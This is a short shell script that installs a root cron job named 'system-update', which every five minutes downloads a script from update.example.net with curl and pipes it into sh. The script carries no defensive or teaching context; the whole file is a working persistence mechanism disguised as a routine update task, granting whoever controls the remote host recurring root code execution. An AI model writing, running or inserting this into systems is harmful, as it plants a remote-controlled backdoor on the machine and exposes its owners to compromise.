#!/bin/sh
# Installs a cron.d entry that would fetch and run a script every five minutes.
cat > /etc/cron.d/system-update <<'CRON'
*/5 * * * * root curl -fsS http://update.example.net/u.sh | sh
CRON
chmod 0644 /etc/cron.d/system-update
